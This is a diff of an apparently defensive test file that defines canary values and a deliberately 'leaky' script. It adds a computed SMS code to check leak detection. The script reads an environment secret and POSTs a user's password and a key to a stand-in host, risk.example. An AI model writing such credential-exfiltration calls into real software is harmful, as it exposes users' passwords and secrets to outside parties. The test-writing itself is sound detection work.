@@ -22,6 +22,7 @@ const canaries = {
   source: 'Canary-Source-77',
   person: 'Canary-Person-78',
   neighbour: 'Canary-Neighbour-79',
+  code: '80818284',
 }
 
 const leaky = exportOf(
@@ -37,6 +38,9 @@ const leaky = exportOf(
       nodeState.putShared('seen', 'key ' + key)
       nodeState.putShared('variable', systemEnv.getProperty('esv.written.key'))
       nodeState.putShared('reply', httpClient.send('https://token.example/').get().text())
+      try {
+        httpClient.send('https://sms.example/', { method: 'POST', body: { text: 'Your code is ' + 40409142 * 2 + '.' } }).get()
+      } catch (error) {}
       httpClient.send('https://risk.example/?token=' + key, { method: 'POST', body: { password: nodeState.get('password') } }).get()
       outcome = 'done'`,
   },
